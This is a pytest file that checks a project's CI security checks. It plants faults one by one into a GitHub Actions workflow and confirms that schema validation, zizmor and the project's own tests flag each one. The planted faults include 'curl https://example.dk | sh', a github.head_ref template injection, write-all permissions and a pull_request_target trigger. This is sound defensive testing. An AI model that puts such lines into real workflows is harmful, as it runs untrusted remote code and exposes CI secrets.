"""One fault of each kind, planted in a workflow: each is caught by the check meant for it."""

import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.project import test_workflows

FOLDER = Path(__file__).parents[2] / ".github"
CI = (FOLDER / "workflows" / "ci.yml").read_text(encoding="utf-8")
CHECKOUT, VERSION = re.findall(r"uses: (actions/checkout@\w+)( # v[\d.]+)", CI)[0]
FAULTS = (
    ("a shape that is none", "    runs-on: ubuntu-latest\n", "", ["schema"]),
    ("an event that is none", "  pull_request:\n", "  pull_requests:\n", ["schema"]),
    (
        "every right at the top",
        "permissions: {}",
        "permissions: write-all",
        ["excessive-permissions:9", "rights"],
    ),
    ("no rights named", "permissions: {}\n", "", ["excessive-permissions:3", "rights"]),
    (
        "a text of the proposer's in a command",
        "make test",
        "make test ${{ github.head_ref }}",
        ["commands", "template-injection:31"],
    ),
    ("a foreign command", "make test", "curl https://example.dk | sh", ["commands"]),
    ("a target that is none", "make test", "make tests", ["commands"]),
    (
        "an action by a tag",
        CHECKOUT + VERSION,
        "actions/checkout@v7",
        ["pins", "unpinned-uses:23"],
    ),
    ("an action at two commits", CHECKOUT, f"{CHECKOUT[:-7]}0000000", ["pins"]),
    ("a version left out", CHECKOUT + VERSION, CHECKOUT, ["pins"]),
    (
        "a key kept after use",
        "        with:\n          persist-credentials: false\n",
        "",
        ["artipacked:23"],
    ),
    (
        "a fork's code with the rights of main",
        "  pull_request:\n",
        "  pull_request_target:\n",
        ["dangerous-triggers:5"],
    ),
)
OURS = {
    "rights": test_workflows.test_rights_are_given_job_by_job,
    "pins": test_workflows.test_actions_are_pinned_by_a_commit,
    "commands": test_workflows.test_every_command_is_one_of_the_project_s_own,
}


def complaints(folder: Path) -> Iterator[str]:
    """The checks that do not let the workflow ``ci`` in ``folder`` pass; zizmor's with its line."""
    path = folder / "workflows" / "ci.yml"
    schema = ["check_jsonschema", "--builtin-schema", "vendor.github-workflows", str(path)]
    if test_workflows.ran(*schema).returncode:
        yield "schema"
        return
    tool = str(Path(sys.executable).with_name("zizmor"))
    command = [tool, "--offline", "--persona=pedantic", "--format=github", str(folder)]
    said = subprocess.run(command, capture_output=True, text=True, check=False).stdout
    for line, name in re.findall(r"file=workflows/ci\.yml,line=(\d+),title=([a-z-]+)::", said):
        yield f"{name}:{line}"
    for name, check in OURS.items():
        try:
            check(path)
        except (AssertionError, KeyError):
            yield name


@pytest.mark.parametrize(("kind", "old", "new", "caught"), FAULTS, ids=[row[0] for row in FAULTS])
def test_a_fault_in_a_workflow_is_caught(
    kind: str, old: str, new: str, caught: list[str], tmp_path: Path
) -> None:
    """By the checks that are meant for it and no other, at its line where the check names one."""
    folder = shutil.copytree(FOLDER, tmp_path / ".github")
    path = folder / "workflows" / "ci.yml"
    text = path.read_text(encoding="utf-8")
    assert old in text, kind
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    assert sorted(complaints(folder)) == caught


def test_the_workflow_itself_gives_no_complaint() -> None:
    """What the faults are planted in is sound."""
    assert list(complaints(FOLDER)) == []
